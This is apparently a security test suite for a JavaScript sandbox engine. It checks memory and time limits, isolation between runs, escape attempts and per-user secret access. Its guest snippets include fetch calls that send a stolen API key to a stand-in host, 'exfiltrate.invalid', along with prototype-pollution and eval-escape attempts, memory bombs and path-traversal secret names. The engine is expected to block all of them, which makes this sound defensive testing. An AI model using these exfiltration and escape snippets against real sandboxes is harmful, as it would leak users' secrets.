// The original system's security test plan (TEE_SECURITY_TESTS: MEM, TIME, ISO, SBX, SEC, five
// cases each, plus its extra cases), with the decisions recorded for this project: status
// "error" plus a machine-readable code, implicit globals that die with the execution, writes to
// frozen built-ins that throw a TypeError, and the same error for every unreadable secret.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, describe, test } from 'node:test';
import type { Engine } from '../../src/core/index.ts';
import { failed, makeEngine, moduleOf, run, secretValues, succeeded } from '../support/engine.ts';
import { HostState } from '../support/host-state.ts';

const engine = makeEngine();
const pooled = makeEngine({ pool: { size: 2 } });
const host = new HostState();
after(async () => {
  await engine.drain();
  await pooled.close();
  host.assertUnchanged();
});

/**
 * Stopped at a time limit: not before it (timers may round a little), and well before the bound
 * that would mean the limit failed (a loop that never ends, a guest timer of 60 s). How long after
 * the limit is no measure of the mechanism: a busy machine stops executions late.
 */
function assertStoppedAtLimit(ms: number, limitMs: number): void {
  assert.ok(ms >= limitMs * 0.9 && ms < limitMs + 15_000, `a ${limitMs} ms limit stopped after ${Math.round(ms)} ms`);
}

/** Elapsed wall time of an execution, measured by the caller. */
async function timed<T>(work: () => Promise<T>): Promise<{ value: T; ms: number }> {
  const start = performance.now();
  const value = await work();
  return { value, ms: performance.now() - start };
}

describe('MEM: memory', () => {
  test('MEM-01: an allocation within the limit succeeds', async () => {
    const result = await run(engine, moduleOf('const a = new Array(1_000_000).fill(1.5); return a.length;'), { memoryMb: 64 });
    assert.equal(succeeded(result), 1_000_000);
    assert.ok(result.memoryUsedBytes > 0);
  });

  test('MEM-02: an allocation beyond the limit ends the execution with "memory limit exceeded"', async () => {
    const result = await run(engine, moduleOf('const keep = []; for (;;) keep.push(new Array(100_000).fill(0.5));'), { memoryMb: 32 });
    const error = failed(result, 'MEMORY_LIMIT');
    assert.match(error.message, /memory limit exceeded/);
    // The host keeps serving.
    assert.equal(succeeded(await run(engine, moduleOf('return 1 + 1;'))), 2);
  });

  test('MEM-03: gradual growth is stopped at the limit', async () => {
    const result = await run(
      engine,
      moduleOf(`
        const keep = [];
        for (let i = 0; ; i++) keep.push({ i, text: 'chunk ' + i + ' '.repeat(1000) });
      `),
      { memoryMb: 32 },
    );
    assert.match(failed(result, 'MEMORY_LIMIT').message, /memory limit exceeded/);
  });

  test('MEM-04: large arrays: within the limit they work, past it the execution stops', async () => {
    const fits = await run(engine, moduleOf('const a = new Float64Array(2_000_000); a[1_999_999] = 7; return a[1_999_999] + new Array(500_000).fill(0).length;'), {
      memoryMb: 64,
    });
    assert.equal(succeeded(fits), 500_007);
    const tooLarge = await run(engine, moduleOf('const a = new Float64Array(100_000_000); a.fill(1); return a.length;'), { memoryMb: 32 });
    assert.match(failed(tooLarge, 'MEMORY_LIMIT').message, /memory limit exceeded/);
    const tooManyElements = await run(engine, moduleOf('const a = []; for (let i = 0; i < 50_000_000; i++) a.push(i * 0.5); return a.length;'), {
      memoryMb: 32,
    });
    assert.match(failed(tooManyElements, 'MEMORY_LIMIT').message, /memory limit exceeded/);
  });

  test('MEM-05: deeply nested objects: deep within the limit works, unbounded nesting stops at the limit', async () => {
    const deep = await run(
      engine,
      moduleOf(`
        let node = { leaf: true };
        for (let i = 0; i < 100_000; i++) node = { child: node, i };
        let depth = 0;
        while (node.child) { node = node.child; depth++; }
        return depth;
      `),
      { memoryMb: 64 },
    );
    assert.equal(succeeded(deep), 100_000);
    const unbounded = await run(engine, moduleOf('let node = {}; for (;;) node = { child: node, pad: [1, 2, 3, 4] };'), { memoryMb: 32 });
    assert.match(failed(unbounded, 'MEMORY_LIMIT').message, /memory limit exceeded/);
  });
});

describe('TIME: time', () => {
  test('TIME-01: work within the time limit succeeds', async () => {
    // About 60 ms of work: a limit that leaves room for a busy machine.
    const result = await run(engine, moduleOf('await new Promise((resolve) => setTimeout(resolve, 50)); let s = 0; for (let i = 0; i < 1e6; i++) s += i; return s;'), {
      timeoutMs: 10_000,
    });
    assert.equal(succeeded(result), 499999500000);
  });

  test('TIME-02: while (true) {} ends with "timeout" at a 1 s limit', async () => {
    const { value: result, ms } = await timed(() => run(engine, moduleOf('while (true) {}'), { timeoutMs: 1000 }));
    assert.match(failed(result, 'TIMEOUT').message, /timeout/);
    assertStoppedAtLimit(ms, 1000);
  });

  test('TIME-03: a long finite loop is stopped at the limit', async () => {
    const { value: result, ms } = await timed(() =>
      run(engine, moduleOf('let s = 0; for (let i = 0; i < 1e12; i++) s = (s + i) % 7; return s;'), { timeoutMs: 500 }),
    );
    assert.match(failed(result, 'TIMEOUT').message, /timeout/);
    assertStoppedAtLimit(ms, 500);
  });

  test('TIME-04: a timer that outlasts the limit ends with "timeout" at a 1 s limit', async () => {
    const { value: result, ms } = await timed(() =>
      run(engine, moduleOf('await new Promise((resolve) => setTimeout(resolve, 60_000)); return "too late";'), { timeoutMs: 1000 }),
    );
    assert.match(failed(result, 'TIMEOUT').message, /timeout/);
    assertStoppedAtLimit(ms, 1000);
  });

  test('TIME-05: CPU-heavy work is stopped at the limit and its CPU time is reported', async () => {
    const { value: result, ms } = await timed(() =>
      run(engine, moduleOf('const fib = (n) => (n < 2 ? n : fib(n - 1) + fib(n - 2)); return fib(60);'), { timeoutMs: 500 }),
    );
    assert.match(failed(result, 'TIMEOUT').message, /timeout/);
    assertStoppedAtLimit(ms, 500);
    // Reported, and not more than the cores could have given it (a busy machine gives it less).
    assert.ok(result.cpuTimeMs > 0 && result.cpuTimeMs <= ms * 2, `cpu time ${result.cpuTimeMs} ms in ${ms} ms`);
  });
});

// Run on sandboxes made on demand, and on a warm pool's sandboxes made ahead of time: a pooled
// sandbox must be as fresh as a new one.
function isolationCases(label: string, engine: Engine): void {
  describe(`ISO: isolation between executions${label}`, () => {
    test("ISO-01: a later run cannot see an earlier run's variables", async () => {
      const first = await run(engine, 'globalSecret = "super secret value";\nfunction main() { return globalSecret; }', { functionId: 'fn1' });
      assert.equal(succeeded(first), 'super secret value');
      const second = await run(
        engine,
        'function main() {\n  try { return globalSecret; } catch (e) { return "Variable not found"; }\n}',
        { functionId: 'fn2' },
      );
      assert.equal(succeeded(second), 'Variable not found');
      const third = await run(engine, moduleOf('return typeof globalThis.globalSecret;'), { functionId: 'fn3' });
      assert.equal(succeeded(third), 'undefined');
    });

    test('ISO-02: changes to the global object do not survive the execution', async () => {
      const first = await run(
        engine,
        moduleOf(`
          globalThis.sharedFlag = 'set by run 1';
          globalThis.JSON = { parse: () => 'hijacked', stringify: () => 'hijacked' };
          globalThis.console = { log() {} };
          delete globalThis.crypto;
          Object.defineProperty(globalThis, 'Math', { value: { random: () => 4 } });
          return [typeof crypto, JSON.parse('1')];
        `),
      );
      assert.deepEqual(succeeded(first), ['undefined', 'hijacked']);
      const second = await run(
        engine,
        moduleOf(`
          console.log('visible');
          return [typeof globalThis.sharedFlag, JSON.parse('[1]'), typeof crypto.sha256, typeof Math.max, Math.random() < 1];
        `),
      );
      assert.deepEqual(succeeded(second), ['undefined', [1], 'function', 'function', true]);
      assert.equal(second.logs[0]?.message, 'visible');
    });

    test('ISO-03: data stored during one execution is gone in the next', async () => {
      const store = moduleOf(`
        globalThis.cache = new Map([['user', 'user-1 data']]);
        globalThis[Symbol.for('teejs.test.store')] = 'stored under a registered symbol';
        const weak = new WeakMap([[Object, 'weakly stored']]);
        globalThis.weak = weak;
        return 'stored';
      `);
      assert.equal(succeeded(await run(engine, store)), 'stored');
      const look = await run(
        engine,
        moduleOf(`
          return [typeof globalThis.cache, globalThis[Symbol.for('teejs.test.store')], typeof globalThis.weak, Object.getOwnPropertySymbols(globalThis).length];
        `),
      );
      // An undefined array element travels as null in JSON.
      assert.deepEqual(succeeded(look), ['undefined', null, 'undefined', 0]);
    });

    test('ISO-04: prototype changes are refused and nothing leaks into the next execution', async () => {
      const first = await run(
        engine,
        moduleOf(`
          const outcomes = [];
          for (const attempt of [
            () => { Array.prototype.evil = () => 'evil'; },
            () => { Object.prototype.toString = () => 'evil'; },
            () => { String.prototype.trim = () => 'evil'; },
            () => { Object.setPrototypeOf(Array.prototype, { evil: 1 }); },
          ]) {
            try { attempt(); outcomes.push('changed'); } catch (e) { outcomes.push(e.constructor.name); }
          }
          return outcomes;
        `),
      );
      assert.deepEqual(succeeded(first), ['TypeError', 'TypeError', 'TypeError', 'TypeError']);
      const second = await run(engine, moduleOf("return [typeof [].evil, String({}), ' x '.trim(), Object.getPrototypeOf(Array.prototype) === Object.prototype];"));
      assert.deepEqual(succeeded(second), ['undefined', '[object Object]', 'x', true]);
    });

    test('ISO-05: global namespace pollution stays inside its execution', async () => {
      const baseline = succeeded(await run(engine, moduleOf('return Object.getOwnPropertyNames(globalThis).sort();')));
      const polluter = await run(
        engine,
        [
          'var pollutedVar = 1;',
          'function pollutedFunction() {}',
          'implicitGlobal = 2;',
          'globalThis.explicitGlobal = 3;',
          'class PollutedClass {}',
          'function main() {',
          '  return [typeof pollutedVar, typeof pollutedFunction, typeof implicitGlobal, typeof explicitGlobal, typeof PollutedClass];',
          '}',
        ].join('\n'),
      );
      assert.deepEqual(succeeded(polluter), ['number', 'function', 'number', 'number', 'function']);
      const after = succeeded(await run(engine, moduleOf('return Object.getOwnPropertyNames(globalThis).sort();')));
      assert.deepEqual(after, baseline);
      for (const name of ['pollutedVar', 'pollutedFunction', 'implicitGlobal', 'explicitGlobal', 'main']) {
        assert.ok(!(after as string[]).includes(name), `${name} leaked`);
      }
    });
  });
}

isolationCases('', engine);
isolationCases(' (warm pool)', pooled);

describe('SBX: sandbox', () => {
  test('SBX-01: eval and every way to the Function constructor are refused with a catchable error', async () => {
    const result = await run(
      engine,
      moduleOf(`
        const attempts = {
          eval: () => eval('1 + 1'),
          indirectEval: () => (0, eval)('1 + 1'),
          Function: () => Function('return 1')(),
          newFunction: () => new Function('return 1')(),
          functionConstructor: () => (function () {}).constructor('return 1')(),
          asyncFunction: () => (async function () {}).constructor('return 1'),
          generatorFunction: () => (function* () {}).constructor('yield 1'),
          asyncGeneratorFunction: () => (async function* () {}).constructor('yield 1'),
          timerString: () => setTimeout('globalThis.ran = true', 0),
        };
        const outcomes = {};
        for (const [name, attempt] of Object.entries(attempts)) {
          try { attempt(); outcomes[name] = 'ran'; } catch (e) { outcomes[name] = e instanceof Error ? e.name : 'not an Error'; }
        }
        return outcomes;
      `),
    );
    const outcomes = succeeded(result) as Record<string, string>;
    const { timerString, ...codeGeneration } = outcomes;
    for (const [name, outcome] of Object.entries(codeGeneration)) assert.equal(outcome, 'EvalError', name);
    assert.equal(timerString, 'TypeError');
  });

  test('SBX-02: process, require and the other host globals are absent', async () => {
    const result = await run(
      engine,
      moduleOf(`
        const names = ['process', 'require', 'module', 'exports', 'Buffer', 'global', 'window', 'SharedArrayBuffer',
          'Atomics', 'WebAssembly', 'ivm', '_ivm', 'isolatedVm', '__teejsHandoff', 'FinalizationRegistry'];
        const present = names.filter((name) => typeof globalThis[name] !== 'undefined' || name in globalThis);
        let bareProcess;
        try { bareProcess = process; } catch (e) { bareProcess = e.name; }
        // \`self\` is there, as in browsers and workers, and is the guest's own global object.
        return { present, bareProcess, self: self === globalThis };
      `),
    );
    assert.deepEqual(succeeded(result), { present: [], bareProcess: 'ReferenceError', self: true });
  });

  test('SBX-03: changes to Object.prototype fail and stay contained', async () => {
    const result = await run(
      engine,
      moduleOf(`
        const attempts = [
          () => { Object.prototype.polluted = 'yes'; },
          () => { ({}).__proto__.polluted = 'yes'; },
          () => { Object.defineProperty(Object.prototype, 'polluted', { value: 'yes' }); },
          () => { Object.assign(Object.prototype, { polluted: 'yes' }); },
          () => { Object.prototype.hasOwnProperty = () => true; },
          () => { Object.setPrototypeOf(Object.prototype, { polluted: 'yes' }); },
          () => { delete Object.prototype.toString; if (typeof ({}).toString !== 'function') throw new Error('deleted'); },
        ];
        return attempts.map((attempt) => {
          try { attempt(); return 'changed'; } catch (e) { return e.name; }
        }).concat([String(({}).polluted)]);
      `),
    );
    assert.deepEqual(succeeded(result), ['TypeError', 'TypeError', 'TypeError', 'TypeError', 'TypeError', 'TypeError', 'TypeError', 'undefined']);
    assert.equal(succeeded(await run(engine, moduleOf('return String(({}).polluted);'))), 'undefined');
    assert.equal(({} as Record<string, unknown>).polluted, undefined);
  });

  test('SBX-04: undefined globals read as undefined', async () => {
    const result = await run(
      engine,
      'function main() {\n' +
        '  let bare;\n' +
        '  try { bare = neverDefined; } catch (e) { bare = e.name; }\n' +
        '  return [typeof neverDefined, globalThis.neverDefined === undefined, "neverDefined" in globalThis, bare];\n' +
        '}',
    );
    assert.deepEqual(succeeded(result), ['undefined', true, false, 'ReferenceError']);
  });

  test('SBX-05: fetch to an unauthorised URL fails with a catchable error', async () => {
    // Holds whether fetch is absent (ReferenceError) or present and refusing (security error).
    const result = await run(
      engine,
      moduleOf(`
        try {
          const response = await fetch('https://exfiltrate.invalid/steal?key=' + encodeURIComponent(secrets.get('api-key')));
          return { fetched: true, status: response.status };
        } catch (e) {
          return { fetched: false, isError: e instanceof Error, name: e.name, message: String(e.message) };
        }
      `),
    );
    const outcome = succeeded(result) as { fetched: boolean; isError: boolean; message: string };
    assert.equal(outcome.fetched, false);
    assert.equal(outcome.isError, true);
    assert.ok(outcome.message.length > 0);
    assert.ok(result.network.every((call) => call.status === null), 'no request was answered');
  });
});

describe('SEC: secrets', () => {
  test("SEC-01: a user's own secret is readable", async () => {
    const result = await run(engine, moduleOf('return crypto.sha256(secrets.get("api-key"));'), { userId: 'user-1' });
    assert.equal(succeeded(result), createHash('sha256').update(secretValues['user-1']['api-key']).digest('hex'));
    assert.deepEqual(result.secretsRead, ['api-key']);
  });

  test('SEC-02: a secret the function is not allowed to read gives SECRET_NOT_FOUND', async () => {
    const source = moduleOf('return secrets.get("db-password");');
    const allowed = await run(engine, source, { allowedSecrets: ['db-password'] });
    assert.equal(succeeded(allowed), secretValues['user-1']['db-password']);
    const forbidden = await run(engine, source, { allowedSecrets: ['api-key'] });
    const error = failed(forbidden, 'SECRET_NOT_FOUND');
    assert.match(error.message, /secret not found: db-password/);
    assert.doesNotMatch(JSON.stringify(forbidden), /pw-of-user-1/);
    assert.deepEqual(forbidden.secretsRead, []);
  });

  test("SEC-03: another user's secret gives the same error as a missing one", async () => {
    // `only-user-2` exists for user-2 only; `only-user-x` exists for nobody. Same length names.
    const attempt = (name: string) =>
      run(engine, moduleOf(`try { return secrets.get(${JSON.stringify(name)}); } catch (e) { return [e.name, e.message, e.code]; }`), {
        userId: 'user-1',
      });
    const otherUsers = succeeded(await attempt('only-user-2')) as string[];
    const missing = succeeded(await attempt('only-user-x')) as string[];
    assert.deepEqual(otherUsers, ['Error', 'secret not found: only-user-2', 'SECRET_NOT_FOUND']);
    assert.deepEqual(missing, ['Error', 'secret not found: only-user-x', 'SECRET_NOT_FOUND']);
    const uncaught = failed(await run(engine, moduleOf('return secrets.get("only-user-2");'), { userId: 'user-1' }), 'SECRET_NOT_FOUND');
    const uncaughtMissing = failed(await run(engine, moduleOf('return secrets.get("only-user-x");'), { userId: 'user-1' }), 'SECRET_NOT_FOUND');
    assert.equal(uncaught.message.replace('only-user-2', 'NAME'), uncaughtMissing.message.replace('only-user-x', 'NAME'));
  });

  test('SEC-04: exfiltration attempts fail', async () => {
    const thief = await run(
      engine,
      moduleOf(`
        const stolen = secrets.get('api-key');
        globalThis.stolen = stolen;
        globalThis[Symbol.for('stolen')] = stolen;
        // Due long after the execution ends (however busy the machine): it must never run.
        setTimeout(() => console.log('late leak ' + stolen), 30_000);
        let network = 'no fetch';
        try { await fetch('https://exfiltrate.invalid/?k=' + stolen); network = 'sent'; } catch (e) { network = e.name; }
        return { network };
      `),
      { userId: 'user-1' },
    );
    assert.notEqual((succeeded(thief) as { network: string }).network, 'sent');
    assert.ok(thief.network.every((call) => call.status === null));

    const victim = await run(
      engine,
      moduleOf(`
        const found = [];
        for (const key of Reflect.ownKeys(globalThis)) {
          try { const value = globalThis[key]; if (typeof value === 'string' && value.includes('user-1')) found.push(String(key)); } catch {}
        }
        return { found, registered: typeof globalThis[Symbol.for('stolen')] };
      `),
      { userId: 'user-2' },
    );
    assert.deepEqual(succeeded(victim), { found: [], registered: 'undefined' });
    assert.doesNotMatch(JSON.stringify(victim), /key-of-user-1/);
    // Audit data names the secrets read, never their values.
    assert.deepEqual(thief.secretsRead, ['api-key']);
    assert.doesNotMatch(JSON.stringify({ ...thief, result: null }), /key-of-user-1/);
  });

  test('SEC-05: the secret store cannot be modified from guest code', async () => {
    const tamper = await run(
      engine,
      moduleOf(`
        const outcomes = [];
        for (const attempt of [
          () => { secrets.get = () => 'forged'; },
          () => { secrets.set = () => {}; },
          () => { Object.defineProperty(secrets, 'get', { value: () => 'forged' }); },
          () => { Object.setPrototypeOf(secrets, { get: () => 'forged' }); },
          () => { delete secrets.get; },
        ]) {
          try { attempt(); outcomes.push('changed'); } catch (e) { outcomes.push(e.name); }
        }
        // Shadowing the global is allowed and changes nothing outside this execution.
        globalThis.secrets = { get: () => 'forged' };
        const shadow = secrets.get('api-key');
        const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'api-key\\u0000', '../user-2/api-key'];
        const lookups = names.map((name) => { try { return secrets.get.call(undefined, name); } catch (e) { return e.code; } });
        return { outcomes, shadow, lookups };
      `),
    );
    const outcome = succeeded(tamper) as { outcomes: string[]; shadow: string; lookups: string[] };
    assert.deepEqual(outcome.outcomes, ['TypeError', 'TypeError', 'TypeError', 'TypeError', 'TypeError']);
    assert.equal(outcome.shadow, 'forged');
    assert.deepEqual(outcome.lookups, ['forged', 'forged', 'forged', 'forged', 'forged', 'forged']);
    const honest = await run(
      engine,
      moduleOf(`
        const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'api-key\\u0000', '../user-2/api-key'];
        return { real: secrets.get('api-key'), lookups: names.map((name) => { try { return secrets.get(name); } catch (e) { return e.code; } }) };
      `),
    );
    assert.deepEqual(succeeded(honest), { real: secretValues['user-1']['api-key'], lookups: Array(6).fill('SECRET_NOT_FOUND') });
  });
});

describe('concurrent executions', () => {
  test('executions of different users running at the same time stay apart, whatever each one ends with', async () => {
    const source = moduleOf(`
      globalThis.mine = context.userId;
      await new Promise((resolve) => setTimeout(resolve, 20));
      if (params.ending === 'timeout') for (;;) {}
      if (params.ending === 'memory') { const keep = []; for (;;) keep.push(new Array(100_000).fill(0.5)); }
      if (params.ending === 'throw') throw new Error('ended by ' + context.userId);
      return { seen: globalThis.mine, user: context.userId, key: secrets.get('api-key') };
    `);
    const endings = ['success', 'timeout', 'memory', 'throw'];
    const runs = Array.from({ length: 16 }, (_, i) => {
      const userId = i % 2 === 0 ? 'user-1' : 'user-2';
      const ending = endings[i % endings.length]!;
      // Generous limits for the endings that are not about time: sixteen isolates share the cores,
      // and a memory bomb starved of CPU on a busy machine takes many seconds to fill its heap.
      const timeoutMs = ending === 'timeout' ? 300 : 120_000;
      return run(engine, source, { userId, params: { ending }, timeoutMs, memoryMb: 32 }).then((result) => ({ result, userId, ending }));
    });
    for (const { result, userId, ending } of await Promise.all(runs)) {
      if (ending === 'success') {
        const key = secretValues[userId as keyof typeof secretValues]['api-key'];
        assert.deepEqual(succeeded(result), { seen: userId, user: userId, key });
      } else if (ending === 'timeout') failed(result, 'TIMEOUT');
      else if (ending === 'memory') failed(result, 'MEMORY_LIMIT');
      else assert.equal(failed(result, 'RUNTIME_ERROR').message, `Error: ended by ${userId}`);
      assert.equal(result.userId, userId);
    }
  });
});

describe('the original plan: extra cases', () => {
  test('the same function run as user 1 and user 2 sees its own userId', async () => {
    const source = 'function main(params, context) { return [executionContext.userId, context.userId, executionContext.functionId]; }';
    assert.deepEqual(succeeded(await run(engine, source, { userId: '1', functionId: 'shared' })), ['1', '1', 'shared']);
    assert.deepEqual(succeeded(await run(engine, source, { userId: '2', functionId: 'shared' })), ['2', '2', 'shared']);
  });

  test('a counter kept in a global starts at 1 on every run', async () => {
    const source = 'if (typeof counter === "undefined") counter = 0;\nfunction main() { counter++; return counter; }';
    for (let i = 0; i < 3; i++) assert.equal(succeeded(await run(engine, source)), 1);
    const moduleSource = 'globalThis.counter = (globalThis.counter ?? 0) + 1;\nexport default () => globalThis.counter;';
    for (let i = 0; i < 3; i++) assert.equal(succeeded(await run(engine, moduleSource)), 1);
  });

  test('five runs that each allocate a large array all succeed', async () => {
    for (let i = 0; i < 5; i++) {
      const result = await run(engine, moduleOf('const a = new Array(6_000_000).fill(i => i); return a.length;'), { memoryMb: 128 });
      assert.equal(succeeded(result), 6_000_000, `run ${i + 1}`);
    }
  });
});
